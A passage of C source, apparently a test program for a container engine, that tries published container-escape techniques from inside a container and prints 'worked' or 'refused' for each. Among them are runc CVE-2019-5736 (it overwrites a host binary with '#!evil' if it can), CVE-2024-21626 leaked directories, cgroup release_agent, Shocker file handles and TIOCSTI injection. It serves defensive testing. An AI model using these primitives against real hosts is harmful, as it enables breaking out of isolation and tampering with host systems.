/* What root inside a container tries, one published technique for each word on the command line.
 *
 * Linked statically, so that it runs in any root file system. Every attempt ends in a line that begins with `worked:`
 * or with `refused:` and says what was tried and the kernel's answer; the tests read nothing else. An attempt stops
 * before it harms: a setting of the kernel is opened for writing, and nothing is written to it.
 *
 * `naive-…` are what careless container engines did, for the tests to compare with. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int worked(const char *format, ...) {
  va_list arguments;
  va_start(arguments, format);
  printf("worked: ");
  vprintf(format, arguments);
  printf("\n");
  va_end(arguments);
  fflush(stdout);
  return 0;
}

/* With the name of `errno`. */
static int refused(const char *format, ...) {
  const char *name = errno ? strerrorname_np(errno) : "nothing came of it";
  va_list arguments;
  va_start(arguments, format);
  printf("refused: ");
  vprintf(format, arguments);
  printf(": %s\n", name);
  va_end(arguments);
  fflush(stdout);
  return 0;
}

static void die(const char *what) {
  fprintf(stderr, "attacks: %s: %s\n", what, strerror(errno));
  exit(99);
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* ------------------------------------------------------------------------------------------------ handles */

static uint64_t mount_of(int fd) {
  struct statx stat;
  if (statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &stat) != 0) return 0;
  return stat.stx_mnt_id;
}

/* Whether a mount is in our own mount namespace and beneath our root. */
static int mount_is_known(uint64_t id) {
  FILE *table = fopen("/proc/self/mountinfo", "re");
  if (!table) return 0;
  char line[8192];
  int known = 0;
  while (fgets(line, sizeof line, table))
    if (strtoull(line, NULL, 10) == id) known = 1;
  fclose(table);
  return known;
}

/* The directory above all from here, by `..` alone. */
static int climb(int dir) {
  int at = dup(dir);
  for (int i = 0; i < 512 && at >= 0; i++) {
    int above = openat(at, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (above < 0) break;
    struct stat a, b;
    int top = fstat(at, &a) == 0 && fstat(above, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino &&
              mount_of(at) == mount_of(above);
    close(at);
    at = above;
    if (top) break;
  }
  return at;
}

/* Whether climbing from a directory ends elsewhere than at our root. */
static int leads_outside(int dir, const char *marker) {
  int top = climb(dir);
  int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (top < 0 || root < 0) return 0;
  int found = faccessat(top, marker[0] == '/' ? marker + 1 : marker, F_OK, 0) == 0;
  struct stat a, b;
  int other = fstat(top, &a) == 0 && fstat(root, &b) == 0 && mount_of(top) != mount_of(root) &&
              !mount_is_known(mount_of(top));
  close(top);
  close(root);
  return found || other;
}

/* A file of no mount that we have, and not one in memory that nobody can change. */
static int is_foreign_file(int fd) {
  struct stat stat;
  if (fstat(fd, &stat) != 0) return 0;
  if (!S_ISREG(stat.st_mode) && !S_ISBLK(stat.st_mode)) return 0;
  int seals = fcntl(fd, F_GET_SEALS);
  if (seals >= 0 && (seals & (F_SEAL_WRITE | F_SEAL_FUTURE_WRITE))) return 0;
  return !mount_is_known(mount_of(fd));
}

static int is_number(const char *text) { return *text && strspn(text, "0123456789") == strlen(text); }

/* One look at what the processes in sight hold: working directories, roots, descriptors. */
static int look_at_processes(const char *marker, char *found, size_t size) {
  DIR *proc = opendir("/proc");
  if (!proc) return 0;
  struct dirent *entry;
  int self = getpid();
  while ((entry = readdir(proc))) {
    if (!is_number(entry->d_name)) continue;
    char path[1024], target[4096];
    for (const char *const *name = (const char *const[]){"cwd", "root", NULL}; *name; name++) {
      snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, *name);
      int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (dir >= 0 && leads_outside(dir, marker)) {
        snprintf(found, size, "%s", path);
        return 1;
      }
      if (dir >= 0) close(dir);
    }
    snprintf(path, sizeof path, "/proc/%s/fd", entry->d_name);
    DIR *fds = opendir(path);
    struct dirent *fd;
    while (fds && (fd = readdir(fds))) {
      if (!is_number(fd->d_name)) continue;
      if (atoi(entry->d_name) == self && (atoi(fd->d_name) == dirfd(proc) || atoi(fd->d_name) == dirfd(fds)))
        continue;
      snprintf(path, sizeof path, "/proc/%s/fd/%s", entry->d_name, fd->d_name);
      struct stat stat_;
      if (stat(path, &stat_) != 0 || S_ISFIFO(stat_.st_mode) || S_ISSOCK(stat_.st_mode) || S_ISCHR(stat_.st_mode))
        continue;
      int at = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
      if (at < 0) continue;
      int bad = S_ISDIR(stat_.st_mode) ? leads_outside(at, marker) : is_foreign_file(at);
      close(at);
      if (bad) {
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        snprintf(found, size, "%s -> %s", path, target);
        return 1;
      }
    }
    if (fds) closedir(fds);
  }
  closedir(proc);
  return 0;
}

/* CVE-2024-21626 and everything like it: a directory of the outside, by whatever leads there. */
static int reach(const char *marker, double seconds) {
  char found[8192];
  int dot = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dot >= 0 && leads_outside(dot, marker)) return worked("the working directory leads to %s", marker);
  if (dot >= 0) close(dot);
  for (int fd = 3; fd < 64; fd++)
    if (fcntl(fd, F_GETFD) >= 0) return worked("descriptor %d was left open", fd);
  double end = now() + seconds;
  unsigned looks = 0;
  do {
    looks++;
    if (look_at_processes(marker, found, sizeof found)) return worked("%s leads outside", found);
  } while (now() < end);
  errno = 0;
  return refused("%u looks at every process", looks);
}

/* The classic way out of a chroot: root changes its root again, and climbs from where it was. */
static int chroot_climb(const char *marker) {
  mkdir("/tmp/deeper", 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chroot("/tmp/deeper") != 0) return refused("chroot");
  if (here < 0 || fchdir(here) != 0) return refused("fchdir");
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  const char *inside = marker + 1;
  int fd = open(inside, O_RDONLY);
  return fd < 0 ? refused("open %s", marker) : worked("opened %s", marker);
}

/* CVE-2019-5736: what enters the container is opened while it runs and written when it no longer does. */
static int hunt_programs(double seconds) {
  double end = now() + seconds;
  unsigned seen = 0;
  int last = 0, hunted = 0;
  struct { int fd; double since; } held[16] = {0};
  char path[512], target[4096];
  while (now() < end) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
      if (!is_number(entry->d_name)) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      seen++;
      if (!is_foreign_file(fd)) {
        close(fd);
        continue;
      }
      hunted++;
      int slot = 0;
      while (slot < 15 && held[slot].fd) slot++;
      if (held[slot].fd) close(held[slot].fd);
      held[slot].fd = fd;
      held[slot].since = now();
    }
    if (proc) closedir(proc);
    for (int i = 0; i < 16; i++) {
      if (!held[i].fd) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd >= 0) {
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        if (pwrite(fd, "#!evil\n", 7, 0) == 7) return worked("overwrote %s", target);
      }
      last = errno;
      if (last != ETXTBSY || now() > held[i].since + 3) {
        close(held[i].fd);
        held[i].fd = 0;
      }
    }
  }
  errno = last;
  return refused("%u programs seen, %d of them foreign", seen, hunted);
}

/* --------------------------------------------------------------------------------- settings of the kernel */

/* Opened to be read or written: 0 when it was, and there was something. */
static int try_kernel_file(const char *path, int write) {
  struct stat stat_;
  if (stat(path, &stat_) != 0) return -1;
  if (S_ISDIR(stat_.st_mode)) {
    DIR *dir = opendir(path);
    struct dirent *entry;
    int count = 0;
    if (!dir) return -1;
    while ((entry = readdir(dir))) count += entry->d_name[0] != '.';
    closedir(dir);
    errno = ENOENT;
    return count ? 0 : -1;
  }
  int fd = open(path, (write ? O_WRONLY : O_RDONLY) | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return -1;
  char byte;
  errno = 0;
  int done = S_ISCHR(stat_.st_mode) ? 0 : write || read(fd, &byte, 1) == 1;
  close(fd);
  return done ? 0 : -1;
}

static int first_errno;
static void remember(void) {
  if (!first_errno) first_errno = errno;
}

/* A setting or secret of the machine, plainly and by every way around a mask. */
static int kernel_file(const char *how, const char *path) {
  first_errno = 0;
  int write = strcmp(how, "write") == 0;
  char part[4096], fresh[4096];
  if (try_kernel_file(path, write) == 0) return worked("%s %s", how, path);
  remember();
  /* Through whatever names our own root, or that of pid 1. */
  for (const char *const *prefix =
           (const char *const[]){"/proc/1/root", "/proc/self/root", "/proc/thread-self/root", NULL};
       *prefix; prefix++) {
    snprintf(part, sizeof part, "%s%s", *prefix, path);
    if (try_kernel_file(part, write) == 0) return worked("%s %s", how, part);
  }
  /* What lies on it, or on what is above it, is taken away or made writable. */
  snprintf(part, sizeof part, "%s", path);
  for (char *slash = part + strlen(part); slash > part + 1; slash = strrchr(part, '/')) {
    *slash = 0;
    if (mount(NULL, part, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 && try_kernel_file(path, write) == 0)
      return worked("%s %s after a remount of %s", how, path, part);
    if (strcmp(part, "/proc") != 0 && strcmp(part, "/sys") != 0 && umount2(part, MNT_DETACH) == 0 &&
        try_kernel_file(path, write) == 0)
      return worked("%s %s without the mount on %s", how, path, part);
  }
  /* Another instance of the file system, which nothing lies on. */
  const char *fs = strncmp(path, "/sys", 4) == 0 ? "sysfs" : "proc";
  mkdir("/tmp/scratch", 0755);
  snprintf(fresh, sizeof fresh, "/tmp/scratch%s", strchr(path + 1, '/'));
  for (int namespaces = 0; namespaces < 2; namespaces++) {
    int pipe_[2];
    if (pipe(pipe_) != 0) die("pipe");
    pid_t child = fork();
    if (child == 0) {
      if (namespaces && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) != 0) _exit(1);
      pid_t grandchild = namespaces ? fork() : 0;
      if (grandchild == 0) {
        int fsfd = (int)syscall(SYS_fsopen, fs, 0);
        int new = fsfd < 0 ? -1
                           : (syscall(SYS_fsconfig, fsfd, 6, NULL, NULL, 0), (int)syscall(SYS_fsmount, fsfd, 0, 0));
        int mounted = new >= 0 && syscall(SYS_move_mount, new, "", AT_FDCWD, "/tmp/scratch", 4) == 0;
        if (!mounted) mounted = mount(fs, "/tmp/scratch", fs, 0, NULL) == 0;
        if (mounted && try_kernel_file(fresh, write) == 0) dprintf(pipe_[1], "x");
        _exit(0);
      }
      waitpid(grandchild, NULL, 0);
      _exit(0);
    }
    close(pipe_[1]);
    char byte;
    int done = read(pipe_[0], &byte, 1) == 1;
    close(pipe_[0]);
    waitpid(child, NULL, 0);
    if (done) return worked("%s %s in a new %s%s", how, path, fs, namespaces ? " of a user namespace" : "");
  }
  errno = first_errno;
  return refused("%s %s", how, path);
}

/* CVE-2022-0492, and the first published escape by a release agent: a hierarchy of the machine, writable. */
static int cgroups(void) {
  const char *kinds[] = {"cgroup2", "cpu", "cpuacct", "cpuset", "memory", "devices", "freezer", "blkio",
                         "pids",    "rdma", "net_cls", "perf_event", "misc", "none,name=systemd", "none,name=escape"};
  char path[4096];
  mkdir("/tmp/scratch", 0755);
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    int v2 = i == 0;
    if (mount("cgroup", "/tmp/scratch", v2 ? "cgroup2" : "cgroup", 0, v2 ? NULL : kinds[i]) != 0) {
      remember();
      continue;
    }
    const char *agent = access("/tmp/scratch/release_agent", W_OK) == 0 ? ", with its release_agent" : "";
    int made = mkdir("/tmp/scratch/start-container-escape", 0755) == 0;
    if (made) rmdir("/tmp/scratch/start-container-escape");
    umount2("/tmp/scratch", MNT_DETACH);
    if (made) return worked("made a group in %s%s", kinds[i], agent);
    remember();
  }
  /* What is mounted already. */
  DIR *dir = opendir("/sys/fs/cgroup");
  struct dirent *entry;
  while (dir && (entry = readdir(dir))) {
    if (strcmp(entry->d_name, "..") == 0) continue;
    struct statfs kind;
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s", entry->d_name);
    if (statfs(path, &kind) != 0 || (kind.f_type != 0x27e0eb && kind.f_type != 0x63677270)) continue;
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s/start-container-escape", entry->d_name);
    if (mkdir(path, 0755) == 0) {
      rmdir(path);
      return worked("made %s", path);
    }
    remember();
  }
  errno = first_errno;
  return refused("a hierarchy of control groups");
}

/* An interpreter that the kernel runs for programs of anybody. */
static int binfmt(void) {
  mkdir("/tmp/scratch", 0755);
  const char *at[] = {"/proc/sys/fs/binfmt_misc/register", "/tmp/scratch/register"};
  for (int i = 0; i < 2; i++) {
    if (i == 1 && mount("binfmt_misc", "/tmp/scratch", "binfmt_misc", 0, NULL) != 0) remember();
    int fd = open(at[i], O_WRONLY | O_CLOEXEC);
    if (fd >= 0) return worked("opened %s", at[i]);
    if (errno != ENOENT) remember();
  }
  errno = first_errno ? first_errno : ENOENT;
  return refused("register a binary format");
}

/* Masked files are what they seem: empty. CVE-2025-31133. */
static int masks(int count, char **paths) {
  unsigned looked = 0;
  for (int i = 0; i < count; i++) {
    struct stat stat_;
    char text[64];
    if (stat(paths[i], &stat_) != 0) continue;
    looked++;
    int fd = open(paths[i], (S_ISDIR(stat_.st_mode) ? O_RDONLY : O_RDWR) | O_CLOEXEC);
    if (fd < 0 || S_ISDIR(stat_.st_mode)) continue;
    if (S_ISREG(stat_.st_mode) && read(fd, text, sizeof text) > 0)
      return worked("%s is a file that can be read and written", paths[i]);
    close(fd);
  }
  errno = looked ? EACCES : ENOENT;
  return refused("%u masked files", looked);
}

/* ------------------------------------------------------------------------------------------- system calls */

/* Whether the kernel has looked at more than who asks: then the code behind a call can be reached. */
static void say_call(const char *name, long result) {
  int no = errno == EPERM || errno == ENOSYS || errno == EACCES || errno == EAFNOSUPPORT;
  if (result < 0 && no)
    refused("%s", name);
  else
    worked("%s: %s", name, result >= 0 ? "done" : strerrorname_np(errno));
}

/* In a child, so that what succeeds changes nothing for the next. */
#define CALL(label, ...)                 \
  do {                                         \
    fflush(stdout);                            \
    pid_t child = fork();                      \
    if (child == 0) {                          \
      errno = 0;                               \
      say_call(label, __VA_ARGS__);            \
      _exit(0);                                \
    }                                          \
    waitpid(child, NULL, 0);                   \
  } while (0)

static long namespace_by_clone(unsigned long flags) {
  long pid = syscall(SYS_clone, flags | SIGCHLD, NULL, NULL, NULL, NULL);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid;
}

static long namespace_by_clone3(uint64_t flags) {
  uint64_t arguments[11] = {flags, 0, 0, 0, SIGCHLD};
  long pid = syscall(SYS_clone3, arguments, 64);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid;
}

#ifdef __x86_64__
/* A call of the 32-bit table from a 64-bit program. */
static long by_int80(long number, long argument) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(argument), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
  if ((int)result < 0 && (int)result > -4096) {
    errno = -(int)result;
    return -1;
  }
  return (int)result;
}
#endif

#ifdef __x86_64__
/* The arguments lie in memory, where no filter sees them. */
static long socket_by_socketcall(int family, int type) {
  uint32_t *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (arguments == MAP_FAILED) die("mmap");
  arguments[0] = (uint32_t)family;
  arguments[1] = (uint32_t)type;
  arguments[2] = 0;
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(102L), "b"(1L), "c"((long)(uintptr_t)arguments), "d"(0L)
                   : "memory", "r8", "r9", "r10", "r11");
  errno = (int)result < 0 ? -(int)result : 0;
  return (int)result < 0 ? -1 : (int)result;
}
#endif

/* What escapes and exploits begin with. The arguments make each harmless where it is allowed. */
static int calls(void) {
  char nothing[256] = {0};
  CALL("unshare:user", syscall(SYS_unshare, CLONE_NEWUSER));
  CALL("unshare:mount", syscall(SYS_unshare, CLONE_NEWNS));
  CALL("unshare:net", syscall(SYS_unshare, CLONE_NEWNET));
  CALL("clone:user", namespace_by_clone(CLONE_NEWUSER));
  CALL("clone:mount", namespace_by_clone(CLONE_NEWNS));
  CALL("clone3:user", namespace_by_clone3(CLONE_NEWUSER));
  CALL("setns", syscall(SYS_setns, open("/proc/self/ns/uts", O_RDONLY), 0));
#ifdef __x86_64__
  CALL("int80:unshare", by_int80(310, CLONE_NEWUSER));
  CALL("int80:keyctl", by_int80(288, KEYCTL_JOIN_SESSION_KEYRING));
  CALL("x32:unshare", syscall(0x40000000 + SYS_unshare, CLONE_NEWUSER));
#endif
  CALL("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  CALL("mount", mount("tmpfs", "/tmp", "tmpfs", 0, "bad=option"));
  CALL("umount2", umount2("/no/such/place", 0));
  CALL("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/tmp", 1));
  CALL("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/no/such/place", 0, nothing, 32));
  CALL("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 4));
  CALL("pivot_root", syscall(SYS_pivot_root, "/no/such/place", "/no/such/place"));
  CALL("bpf", syscall(SYS_bpf, 0, nothing, 8));
  CALL("perf_event_open", syscall(SYS_perf_event_open, nothing, 0, -1, -1, 0));
  CALL("userfaultfd", syscall(SYS_userfaultfd, 0));
  CALL("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
  CALL("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_PROCESS_KEYRING, 1));
  CALL("add_key", syscall(SYS_add_key, "user", "escape", "x", 1, KEY_SPEC_PROCESS_KEYRING));
  CALL("request_key", syscall(SYS_request_key, "user", "escape", NULL, 0));
  CALL("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, nothing, 0));
  CALL("init_module", syscall(SYS_init_module, NULL, 0, ""));
  CALL("finit_module", syscall(SYS_finit_module, -1, "", 0));
  CALL("delete_module", syscall(SYS_delete_module, "no such module", O_NONBLOCK));
  CALL("kexec_load", syscall(SYS_kexec_load, 0, 1UL << 40, NULL, 0));
  CALL("reboot", syscall(SYS_reboot, 1, 2, 3, NULL));
  CALL("swapon", syscall(SYS_swapon, "/no/such/file", 0));
  CALL("acct", syscall(SYS_acct, "/no/such/file"));
  CALL("quotactl", syscall(SYS_quotactl, 0x800001 << 8, NULL, 0, NULL));
  CALL("syslog", syscall(SYS_syslog, 10, NULL, 0));
  CALL("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, NULL));
  CALL("settimeofday", syscall(SYS_settimeofday, (void *)1, NULL));
  CALL("sethostname", syscall(SYS_sethostname, "", -1));
  CALL("vhangup", (setsid(), syscall(SYS_vhangup)));
  CALL("fanotify_init", syscall(SYS_fanotify_init, 0, 0));
  CALL("vmsplice", syscall(SYS_vmsplice, -1, NULL, 0, 0));
  CALL("move_pages", syscall(SYS_move_pages, 0, 0, NULL, NULL, NULL, 0));
  CALL("setdomainname", syscall(SYS_setdomainname, "", -1));
#ifdef SYS_iopl
  CALL("iopl", syscall(SYS_iopl, 3));
  CALL("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
#endif
  CALL("socket:packet", socket(AF_PACKET, SOCK_RAW, 0)); /* CVE-2020-14386 */
  CALL("socket:raw", socket(AF_INET, SOCK_RAW, 1));
  CALL("socket:vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
  CALL("socket:alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
  return 0;
}

/* The same families that the filter refuses to socket(2). */
static int socket_calls(void) {
#ifdef __x86_64__
  CALL("socketcall:vsock", socket_by_socketcall(AF_VSOCK, SOCK_STREAM));
  CALL("socketcall:alg", socket_by_socketcall(AF_ALG, SOCK_SEQPACKET));
#else
  errno = ENOSYS;
  refused("socketcall");
#endif
  return 0;
}

static int print_handle(const char *path) {
  struct { struct file_handle handle; unsigned char bytes[MAX_HANDLE_SZ]; } file = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, &file.handle, &mount_id, 0) != 0) die("name_to_handle_at");
  printf("%d:", file.handle.handle_type);
  for (unsigned i = 0; i < file.handle.handle_bytes; i++) printf("%02x", file.handle.f_handle[i]);
  printf("\n");
  return 0;
}

/* "Shocker": a file by its number, on whatever mount of the same file system is in sight. */
static int by_handle(const char *mountpoint, const char *text) {
  struct { struct file_handle handle; unsigned char bytes[MAX_HANDLE_SZ]; } file = {0};
  char *rest;
  file.handle.handle_type = (int)strtol(text, &rest, 10);
  for (rest++; rest[0] && rest[1]; rest += 2) {
    char digits[3] = {rest[0], rest[1], 0};
    file.handle.f_handle[file.handle.handle_bytes++] = (unsigned char)strtoul(digits, NULL, 16);
  }
  int place = open(mountpoint, O_RDONLY | O_CLOEXEC);
  if (place < 0) die(mountpoint);
  int fd = open_by_handle_at(place, &file.handle, O_RDONLY);
  if (fd < 0) return refused("open_by_handle_at");
  char content[256] = {0};
  if (read(fd, content, sizeof content - 1) < 0) die("read by handle");
  content[strcspn(content, "\n")] = 0;
  return worked("read by handle: %s", content);
}

/* ---------------------------------------------------------------------------------------- other processes */

static int outer(const char *how, pid_t pid) {
  char path[128], byte;
  errno = 0;
  if (strcmp(how, "signal") == 0)
    return kill(pid, SIGUSR1) == 0 ? worked("signalled %d", pid) : refused("kill %d", pid);
  if (strcmp(how, "pidfd") == 0) {
    int handle = (int)syscall(SYS_pidfd_open, pid, 0);
    if (handle < 0) return refused("pidfd_open %d", pid);
    int fd = (int)syscall(SYS_pidfd_getfd, handle, 0, 0);
    return fd < 0 ? refused("pidfd_getfd %d", pid) : worked("took a descriptor of %d", pid);
  }
  if (strcmp(how, "ptrace") == 0)
    return ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 ? worked("traces %d", pid) : refused("ptrace %d", pid);
  if (strcmp(how, "memory") == 0) {
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) return worked("opened the memory of %d", pid);
    struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
    errno = 0;
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1 || errno == EFAULT) return worked("read the memory of %d", pid);
    return refused("memory of %d", pid);
  }
  if (strcmp(how, "limits") == 0) {
    struct rlimit limit;
    return prlimit(pid, RLIMIT_NOFILE, NULL, &limit) == 0 ? worked("read the limits of %d", pid) : refused("prlimit %d", pid);
  }
  if (strcmp(how, "owner") == 0) {
    /* The signal of a descriptor's owner is sent by the kernel; the number is looked up here. */
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) die("socketpair");
    if (fcntl(pair[0], F_SETOWN, pid) != 0) return refused("F_SETOWN %d", pid);
    fcntl(pair[0], F_SETSIG, SIGUSR1);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    return write(pair[1], "x", 1) == 1 ? worked("signals %d by a socket", pid) : refused("write");
  }
  die(how);
  return 1;
}

/* Everything in sight, by number, by group, and whoever started us. Who lives is seen from outside. */
static int signal_all(int number) {
  if (fork() == 0) {
    for (pid_t pid = 1; pid < 40000; pid++)
      if (pid != getpid()) kill(pid, number);
    for (pid_t group = 2; group < 40000; group++)
      if (group != getpgrp()) kill(-group, number);
    kill(0, number);
    _exit(0);
  }
  wait(NULL);
  return 0;
}

/* Everything that was left to us by whoever started us. */
static int inherited(const char *variable) {
  int found = 0;
  if (getenv(variable)) found = !worked("%s is in the environment", variable);
  char text[65536];
  int environ_ = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
  ssize_t length = environ_ < 0 ? 0 : read(environ_, text, sizeof text);
  if (environ_ >= 0) close(environ_);
  if (length > 0 && memmem(text, (size_t)length, variable, strlen(variable)))
    found = !worked("%s is in the environment of pid 1", variable);
  int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (terminal >= 0) found = !worked("a controlling terminal");
  if (terminal >= 0) close(terminal);
  if (getpgrp() != getpid() || getsid(0) != getpid()) found = !worked("a session of another");
  for (int fd = 3; fd < 64; fd++)
    if (fcntl(fd, F_GETFD) >= 0) found = !worked("a descriptor, %d", fd);
  char here[4096];
  if (!getcwd(here, sizeof here) || strcmp(here, "/") != 0) found = !worked("a working directory, %s", here);
  errno = 0;
  return found ? 0 : refused("an inheritance");
}

static int find_key(const char *name) {
  long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0);
  return key >= 0 ? worked("found the key %s", name) : refused("find the key %s", name);
}

static int with_key(char **arguments) {
  if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) die("join a session keyring");
  if (syscall(SYS_add_key, "user", arguments[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) die("add a key");
  execvp(arguments[1], arguments + 1);
  die(arguments[1]);
  return 1;
}

/* ---------------------------------------------------------------------------------- devices and terminals */

static int read_device(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  char byte;
  return fd >= 0 && read(fd, &byte, 1) == 1 ? 0 : -1;
}

static int device(const char *path) {
  if (path) return read_device(path) == 0 ? worked("read the device %s", path) : refused("read the device %s", path);
  const char *at[] = {"/dev/node", "/tmp/node", "/dev/shm/node", "/node", "/run/node", "/data/node"};
  for (size_t i = 0; i < sizeof at / sizeof *at; i++) {
    if (mknod(at[i], S_IFCHR | 0666, makedev(1, 5)) != 0) {
      remember();
      continue;
    }
    if (read_device(at[i]) == 0) return worked("made and read the device %s", at[i]);
    remember();
  }
  errno = first_errno;
  return refused("make a device");
}

/* Without capabilities and not as root, whatever the file says. */
static int privileged(void) {
  char line[256];
  unsigned long long effective = 0;
  FILE *status = fopen("/proc/self/status", "re");
  while (status && fgets(line, sizeof line, status)) sscanf(line, "CapEff: %llx", &effective);
  if (getuid() == 0) die("this needs another user than root");
  if (geteuid() == 0 || getegid() == 0 || effective) return worked("euid %d, egid %d, capabilities %llx", geteuid(), getegid(), effective);
  errno = EPERM;
  return refused("to become root by a file");
}

/* CVE-2022-29162: capabilities that a file can inherit. */
static int inheritable(void) {
  char line[256];
  unsigned long long set, all = 0;
  FILE *status = fopen("/proc/self/status", "re");
  while (status && fgets(line, sizeof line, status))
    if (sscanf(line, "CapInh: %llx", &set) == 1 || sscanf(line, "CapAmb: %llx", &set) == 1) all |= set;
  errno = 0;
  return all ? worked("capabilities %llx are inheritable", all) : refused("inheritable capabilities");
}

/* A pseudo-terminal of our own, as the controlling terminal: fewer conditions than anybody else's has. */
static int own_terminal(void) {
  int master = posix_openpt(O_RDWR | O_NOCTTY);
  if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0) return -1;
  char name[128];
  if (ptsname_r(master, name, sizeof name) != 0) return -1;
  setsid();
  return open(name, O_RDWR);
}

/* CVE-2017-5226, CVE-2019-7303: characters typed into a terminal by who only writes to it. */
static int type_into(const char *text) {
  int typed = 0;
  for (int fd = 0; fd < 3; fd++) {
    if (!isatty(fd)) continue;
    typed = 1;
    const char *at = text;
    while (*at && ioctl(fd, TIOCSTI, at) == 0) at++;
    if (!*at) return worked("typed into descriptor %d", fd);
    remember();
  }
  if (!typed) {
    pid_t child = fork();
    if (child == 0) {
      int own = own_terminal();
      if (own < 0) die("a terminal");
      int done = ioctl(own, TIOCSTI, text);
      done == 0 ? worked("typed into a terminal of its own") : refused("TIOCSTI");
      _exit(0);
    }
    waitpid(child, NULL, 0);
    return 0;
  }
  errno = first_errno;
  return refused("TIOCSTI");
}

/* CVE-2023-1523. A pseudo-terminal knows no such request: that it says so means that it was asked. */
static int console(void) {
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    int own = isatty(0) ? 0 : own_terminal();
    if (own < 0) die("a terminal");
    char argument = 3;
    errno = 0;
    ioctl(own, TIOCLINUX, &argument);
    errno == ENOTTY || errno == 0 ? worked("TIOCLINUX reached the terminal") : refused("TIOCLINUX");
    _exit(0);
  }
  waitpid(child, NULL, 0);
  return 0;
}

/* -------------------------------------------------------------------------------------------------- files */

static _Noreturn void exchange(const char *a, const char *b, const char *ready) {
  for (;;) {
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) die("exchange");
    if (ready) close(open(ready, O_CREAT | O_WRONLY, 0644));
    ready = NULL;
  }
}

/* A directory goes away and comes back while somebody is in it. */
static _Noreturn void wander(const char *a, const char *b, const char *ready) {
  for (;;) {
    if (rename(a, b) != 0 || rename(b, a) != 0) die("rename");
    if (ready) close(open(ready, O_CREAT | O_WRONLY, 0644));
    ready = NULL;
  }
}

/* A standard stream that is a file of the caller's, opened again with more rights than it was given with. */
static int reopen(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int again = open(path, O_RDWR | O_CLOEXEC);
  if (again < 0) return refused("open descriptor %d again", fd);
